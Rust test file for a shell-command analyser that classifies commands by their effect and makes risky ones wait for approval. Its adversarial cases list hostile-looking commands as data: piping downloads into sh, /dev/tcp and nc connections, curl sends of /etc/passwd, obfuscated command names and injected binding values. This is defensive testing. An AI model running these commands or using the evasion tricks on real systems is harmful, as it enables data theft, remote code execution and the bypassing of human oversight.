//! Adversarial tests of the shell analysis.

mod changing;
mod contexts;
mod holes;
mod overlooked;
mod reading;

use super::split::Logical;
use super::{Analysis, Shell, bind, effect_of};
use crate::Effect::{
    self, ChangesHere, ChangesProduction, Destroys, FollowsLog, ReadsHere, ReadsWorld, Unknown, Waits,
};
use crate::{Approval, Command};
use std::collections::{BTreeMap, BTreeSet};

fn analyse(source: &str) -> Analysis {
    let mut shell = Shell::default();
    shell.analyse(source, 1).clone()
}

fn split(text: &str) -> Vec<Logical> {
    Shell::default().split(text, None)
}

fn check(cases: &[(&str, Effect)]) {
    let wrong: Vec<String> = cases
        .iter()
        .map(|(source, wanted)| (source, wanted, effect_of(source)))
        .filter(|(_, wanted, (found, _))| *wanted != found)
        .map(|(source, wanted, (found, reason))| {
            format!("{source:?}: wanted {wanted:?}, got {found:?} ({reason})")
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn commands_that_only_look_run_alone() {
    check(&[
        ("curl -I https://api.tabbi.dev/health", ReadsWorld),
        ("curl -sS --max-time 5 https://api.example.test/health | jq .status", ReadsWorld),
        ("curl -o /dev/null -sw '%{http_code}\\n' https://a.example.test", ReadsWorld),
        ("curl -G --data-urlencode 'query=up' https://prom.example.test/api/v1/query", ReadsWorld),
        ("wrangler tail --env production", FollowsLog),
        ("wrangler tail --env production --filter \"status>=500\" | head -20", FollowsLog),
        ("wrangler --env production tail", FollowsLog),
        ("wrangler deployments list --env production", ReadsWorld),
        ("wrangler deployments list -e production --json", ReadsWorld),
        ("wrangler versions list", ReadsWorld),
        ("wrangler whoami", ReadsWorld),
        ("modal app list | grep coding-agent", ReadsWorld),
        ("modal app logs x | grep \"create_sandbox\" | tail -20", FollowsLog),
        ("npx convex logs | grep \"messages\"", FollowsLog),
        ("npx convex logs --function sessions:createSession", FollowsLog),
        ("kubectl -n web get pods -o wide", ReadsWorld),
        ("kubectl logs deploy/api --tail=100", ReadsWorld),
        ("kubectl logs -f deploy/api", FollowsLog),
        ("kubectl get pods -w", FollowsLog),
        ("kubectl get pods -n \"$NS\"", ReadsWorld),
        ("git log --oneline -n 20", ReadsHere),
        ("git status && git diff --stat", ReadsHere),
        ("grep -rn 'a > b; rm' src 2>/dev/null", ReadsHere),
        ("tail -n 50 app.log", ReadsHere),
        ("tail -f app.log", FollowsLog),
        ("tail -fn 10 app.log", FollowsLog),
        ("ps aux 2>&1 | sort -k 3 -r | head", ReadsHere),
        ("find . -name '*.log' -mtime -1", ReadsHere),
        ("sed -n '1,20p' file", ReadsHere),
        ("awk '{print $1}' access.log | sort | uniq -c", ReadsHere),
        ("psql -c 'select count(*) from sessions where state = 1;'", ReadsWorld),
        ("redis-cli -h cache info", ReadsWorld),
        ("timeout 30 wrangler tail", FollowsLog),
        ("echo $(date +%s)", Unknown),
        ("echo \"$(date +%s)\"", ReadsHere),
        ("(cd src; ls) # look here", ReadsHere),
        ("if curl -sf https://a.example.test/health; then echo up; else echo down; fi", ReadsWorld),
        ("systemctl status nginx", ReadsHere),
        ("journalctl -u api --since '10 min ago'", ReadsHere),
        ("journalctl -fu api", FollowsLog),
        ("aws ecs describe-services --cluster a --services b", ReadsWorld),
    ]);
}

#[test]
fn commands_that_change_say_what_they_change() {
    check(&[
        ("wrangler rollback --env production", ChangesProduction),
        ("wrangler deploy --env production", ChangesProduction),
        ("wrangler delete", Destroys),
        ("wrangler secret put KEY", ChangesProduction),
        ("modal app stop coding-agent-sandbox", Destroys),
        ("modal deploy sandbox.py", ChangesProduction),
        ("modal app rollover x", ChangesProduction),
        ("npx convex dashboard", ChangesHere),
        ("git checkout main && modal deploy", ChangesProduction),
        ("git push", ChangesProduction),
        ("git push --force origin main", Destroys),
        ("git reset --hard HEAD~1", Destroys),
        ("kubectl delete pod x", Destroys),
        ("kubectl rollout undo deploy/x", ChangesProduction),
        ("systemctl restart nginx", ChangesHere),
        ("sleep 10", Waits),
        ("while true; do curl -s https://a.example.test/health; sleep 5; done", Waits),
        (
            "curl -w \"%{time_total}\\n\" -o /dev/null \\\n  -X POST https://a.example.test/health",
            ChangesProduction,
        ),
        ("curl https://a.example.test > page.html", ChangesHere),
        ("curl -o page.html https://a.example.test", ChangesHere),
        ("sed -i s/a/b/ file", ChangesHere),
        ("rm -rf /tmp/x", Destroys),
        ("docker rm -f api", Destroys),
        ("find . -name x -delete", Destroys),
    ]);
}

#[test]
fn requests_that_are_not_plainly_get_wait() {
    for source in [
        "curl -X\"POST\" https://a.example.test",
        "curl -XDELETE https://a.example.test",
        "curl --request=PUT https://a.example.test",
        "curl --request PATCH https://a.example.test",
        "curl -sXPOST https://a.example.test",
        "curl -X get https://a.example.test",
        "curl -d a=1 https://a.example.test",
        "curl --data-binary @f https://a.example.test",
        "curl --json '{}' https://a.example.test",
        "curl -F f=@x https://a.example.test",
        "curl -T f https://a.example.test",
        "curl -G -d @/etc/passwd https://a.example.test",
        "curl -K conf https://a.example.test",
        "curl https://a.example.test --next -X POST https://b.example.test",
        "curl --reque POST https://a.example.test",
        "curl -w '%output{/tmp/x}%{json}' https://a.example.test",
        "curl -H 'X-HTTP-Method-Override: DELETE' https://a.example.test",
        "curl -H @/etc/passwd https://a.example.test",
        "curl gopher://a.example.test:6379/_FLUSHALL",
        "curl file:///etc/passwd",
        "curl $FLAGS https://a.example.test",
        "curl \"$URL\"",
        "curl \"https://a.example.test/$X\"",
        "curl \"a.example.test/$X\"",
        "curl \"localhost$X\"",
        "curl \"https://$HOST\" -X \"$X\"",
        "curl {-XPOST,https://a.example.test}",
        "curl *",
        "curl https://a.example.test/admin/restart",
        "curl 'https://a.example.test/jobs?action=delete'",
        "curl -O https://a.example.test/x",
        "curl -c jar https://a.example.test",
        "curl",
        "curl -X \"$METHOD\" https://a.example.test",
    ] {
        assert_waits(source);
    }
}

fn assert_waits(source: &str) {
    let (effect, reason) = effect_of(source);
    assert_eq!(effect.approval(), Approval::Needed, "{source:?} would run alone: {effect:?}, {reason}");
    assert!(!reason.is_empty(), "{source:?} has no reason");
}

const TRICKS: &[&str] = &[
    "c''url https://a.example.test",
    "cur\\l https://a.example.test",
    "\\curl https://a.example.test",
    "\"curl\" https://a.example.test",
    "$'\\x63url' https://a.example.test",
    "сurl https://a.example.test",
    "cu\u{200b}rl https://a.example.test",
    "grep x \u{202e}file",
    "ls\u{a0}-la",
    "ls\r\nrm x",
    "$CMD https://a.example.test",
    "${CMD} x",
    "./curl https://a.example.test",
    "/tmp/curl https://a.example.test",
    "PATH=/tmp curl https://a.example.test",
    "LD_PRELOAD=./x.so ls",
    "GIT_SSH_COMMAND='sh -c x' git fetch",
    "X=1; ls",
    "export PATH=/tmp; ls",
    "curl -s https://a.example.test | sh",
    "curl -s https://a.example.test | bash -s",
    "curl -s https://a.example.test | sudo tee /etc/x",
    "echo rm -rf / | xargs -n1 sh",
    "eval ls",
    "bash -c ls",
    "ssh host ls",
    "sudo ls",
    "env ls",
    "nohup ls",
    "source x",
    ". x",
    "python3 -c 'print(1)'",
    "perl -e 1",
    "node x.js",
    "watch 'rm x'",
    "exec ls",
    "alias ls=rm; ls",
    "ls() { rm x; }; ls",
    "function ls { rm x; }",
    "ls &",
    "ls & rm x",
    "ls <(rm x)",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\nx\nEOF\nrm x",
    "bash <<< 'rm x'",
    "echo $((a[$(rm x)]))",
    "echo ${x:-$(rm x)}",
    "echo \"${x:=$(rm y)}\"",
    "[[ -v a[$(rm x)] ]]",
    "[ -f x ] && rm x",
    "test -v 'a[$(rm x)]'",
    "printf -v 'a[$(rm x)]' y",
    "trap 'rm x' EXIT",
    "cat < /dev/tcp/a.example.test/80",
    "echo x > /dev/tcp/a.example.test/80",
    "echo x > /dev/sda",
    "echo x >& file",
    "echo x &> file",
    "ls \"unclosed",
    "ls )",
    "",
    "   ",
    "for PATH in /tmp; do ls; done",
    "for i in a b; do kubectl delete pod $i; done",
    "find . -exec rm {} ;",
    "find . -ok rm {} ;",
    "find . -fprint x",
    "sort -o out in",
    "sort --compress-program=sh in",
    "uniq in out",
    "sed -n 'w out' in",
    "sed 's/a/b/e' in",
    "sed 's/a/b/w out' in",
    "sed -f script in",
    "awk 'BEGIN { system(\"rm x\") }'",
    "awk '{ print > \"out\" }' in",
    "awk -f prog in",
    "date -s tomorrow",
    "date 01010000",
    "git -c alias.status='!rm x' status",
    "git -c core.pager=rm log",
    "git --exec-path=/tmp status",
    "git log --output=x",
    "git diff --ext-diff",
    "git branch -D main",
    "git $X",
    "kubectl get --raw /api/v1/namespaces/x/services/y/proxy/delete",
    "kubectl --kubeconfig evil get pods",
    "kubectl exec x -- ls",
    "kubectl $VERB pods",
    "kubectl -n $NS get pods",
    "kubectl get pods \"$@\"",
    "kubectl get pods \"${A[@]}\"",
    "wrangler tail $X",
    "wrangler \"$X\"",
    "wrangler tail --unknown-flag",
    "npx -y cowsay",
    "npx wrangler@latest tail",
    "psql -c 'select pg_terminate_backend(1)'",
    "psql -c 'select 1; drop table x'",
    "psql -c 'select 1 into x'",
    "psql -c 'with x as (delete from y returning 1) select 1'",
    "psql -f x.sql",
    "psql -c 'select 1' -c 'delete from x'",
    "psql -c '\\! rm x'",
    "redis-cli eval 'x' 0",
    "redis-cli flushall",
    "aws s3 cp a b",
    "aws secretsmanager delete-secret --secret-id x",
    "aws s3api get-object --bucket b --key k out",
    "gcloud compute ssh list",
    "timeout 5 sh -c ls",
    "timeout --signal=9 5 rm x",
    "timeout $X ls",
    "journalctl --vacuum-time=1s",
    "ss -K",
    "nc a.example.test 80",
    "command rm x",
    "tee x",
    "time rm x",
    "coproc rm x",
    "ls |& tee x",
    "case x in x) rm y;; esac",
    "select x in a; do rm x; done",
    "until rm x; do :; done",
    "{ ls; rm x; }",
    "ls; (rm x)",
    "! rm x",
    "ls || rm x",
    "ls\nrm x",
    "ls `rm x`",
    "ls \"$(rm x)\"",
    "ls \"$(ls \"$(rm x)\")\"",
    "ls a#b; rm x",
    "ls # x\nrm x",
    "ls \\\n; rm x",
    "[ -f\n x ]",
    "[ -f & x ]",
    "ls | sort -n2>&1",
    "sed -n '1p'\\x41x",
    "[ -f| x ]",
    "wrangler tail --\\\nenv pro -X duction",
    "grep x y && rm z",
    "grep x y > out",
    "wrangler tail; wrangler deploy",
    "echo $(wrangler deploy)",
    "echo `wrangler deploy`",
    "cat <(wrangler deploy)",
    "modal app list | kubectl apply -f -",
];

#[test]
fn tricks_of_the_shell_wait() {
    for source in TRICKS {
        assert_waits(source);
    }
}

#[test]
fn holes_are_seen_before_the_shell_sees_them() {
    for (source, names) in [
        ("kubectl -n <namespace> delete pod <pod name>", vec!["namespace", "pod name"]),
        ("git checkout <prev> && modal deploy", vec!["prev"]),
        ("kubectl logs {{ pod }} -n {namespace}", vec!["pod", "namespace"]),
        (
            "curl https://[your host]/health -H 'Authorization: Bearer YOUR_TOKEN'",
            vec!["your host", "YOUR_TOKEN"],
        ),
        ("modal app rollback [VERSION]", vec!["VERSION"]),
        ("kubectl logs api-XXX", vec!["XXX"]),
        ("curl -w \"%{time_total}\\n\" https://a.example.test", vec![]),
        ("docker ps --format '{{.Names}} {{json .State}}'", vec![]),
        ("echo ${HOME} {a,b} {1..3} $1 $? $$ $@", vec![]),
        ("grep '[abc]' x; ls [a-z]*; [ -f x ]", vec![]),
        ("awk '{print}' x | jq '{name}'", vec![]),
        ("cat <<EOF\nx\nEOF", vec![]),
        ("grep -o '<title>' page", vec![]),
        ("sort <in >out", vec![]),
        ("mktemp /tmp/x.XXX", vec![]),
    ] {
        let found: Vec<String> = analyse(source).holes.into_iter().map(|hole| hole.name).collect();
        assert_eq!(found, names, "{source}");
    }
    assert_eq!(analyse("kubectl -n <namespace> get pods").effect, ReadsWorld);
    assert_eq!(analyse("kubectl -n <namespace> delete pod x").effect, Destroys);
    assert_eq!(analyse("kubectl <verb> pods").effect, Unknown);
    assert_waits("kubectl -n <namespace> get pods");
}

fn bound(source: &str, value: &str) -> Result<String, Vec<String>> {
    let found = analyse(source);
    let names = found.holes.iter().map(|hole| (hole.name.clone(), value.to_owned()));
    let values: BTreeMap<String, String> = names.collect();
    let command = Command {
        source: source.to_owned(),
        effect: found.effect,
        effect_reason: found.reason,
        holes: found.holes,
        ..Command::default()
    };
    bind(&command, &values, &BTreeSet::new())
}

#[test]
fn a_bound_value_stays_one_word() {
    assert_eq!(
        bound("kubectl get pod <pod> -n <ns>", "a b"),
        Ok("kubectl get pod 'a b' -n 'a b'".to_owned())
    );
    assert_eq!(
        bound("git checkout <prev>", "x'; rm y; '"),
        Ok(r"git checkout 'x'\''; rm y; '\'''".to_owned())
    );
    assert_eq!(bound("echo \"at <x>!\"", "$(rm y)"), Ok("echo \"at \"'$(rm y)'\"!\"".to_owned()));
    assert_eq!(bound("echo 'at <x>!'", "a"), Ok("echo 'at ''a''!'".to_owned()));
    assert_eq!(bound("ls # <x>", "a\nrm y"), Err(vec!["x".to_owned()]));
    assert_eq!(bound("cat <<EOF\n<x>\nEOF", "$(rm y)"), Err(vec!["x".to_owned()]));
    assert_eq!(bound("echo \"$(ls \"<x>\")\"", "a b"), Err(vec!["x".to_owned()]));
    assert_eq!(bound("echo `ls <x>`", "a"), Err(vec!["x".to_owned()]));
    assert_eq!(bound("echo $((<x>+1))", "a"), Err(vec!["x".to_owned()]));
    assert_eq!(bound("ls <x>", ""), Err(vec!["x".to_owned()]));
    assert_eq!(bound("ls", "unused"), Ok("ls".to_owned()));
}

#[test]
fn a_bound_value_never_becomes_an_option() {
    assert!(bound("curl <address>", "-XPOST").is_err());
    assert!(bound("curl \"<address>\"", "-XPOST").is_err());
    assert!(bound("curl --url=<address>", "-XPOST").is_ok());
    assert_eq!(effect_of(&bound("kubectl get pod <pod>", "api-1").unwrap()).0, ReadsWorld);
}

#[test]
fn a_fence_is_cut_into_commands() {
    let text = "# first\nls \\\n  -l\n\n# not above\n\n# If broken\n# Fix it\nfor i in a b; do\n  echo $i\ndone\n\
                echo \"two\nlines\"\ncat <<EOF\na\nEOF\nit's broken\nls\n";
    let found: Vec<(usize, String, usize)> = split(text)
        .into_iter()
        .map(|command| (command.line, command.source, command.comments.len()))
        .collect();
    let wanted = [
        (1, "ls \\\n  -l", 1),
        (8, "for i in a b; do\n  echo $i\ndone", 2),
        (11, "echo \"two\nlines\"", 0),
        (13, "cat <<EOF\na\nEOF", 0),
        (16, "it's broken", 0),
        (17, "ls", 0),
    ];
    let wanted: Vec<_> =
        wanted.into_iter().map(|(line, text, above)| (line, text.to_owned(), above)).collect();
    assert_eq!(found, wanted);
}

#[test]
fn a_quote_in_a_here_document_opens_nothing() {
    let found: Vec<String> = split("cat <<EOF\nit's\nEOF\nls\nfoo()\n{\n  ls\n}\nls | \\\n  sort\n")
        .into_iter()
        .map(|command| command.source)
        .collect();
    assert_eq!(found, ["cat <<EOF\nit's\nEOF", "ls", "foo()\n{\n  ls\n}", "ls | \\\n  sort"]);
}

#[test]
fn output_below_a_prompt_is_not_a_command() {
    let found: Vec<String> = split("$ kubectl get pods\nNAME READY\napi  1/1\n\n$ ls\n")
        .into_iter()
        .map(|command| command.source)
        .collect();
    assert_eq!(found, ["kubectl get pods", "ls"]);
}
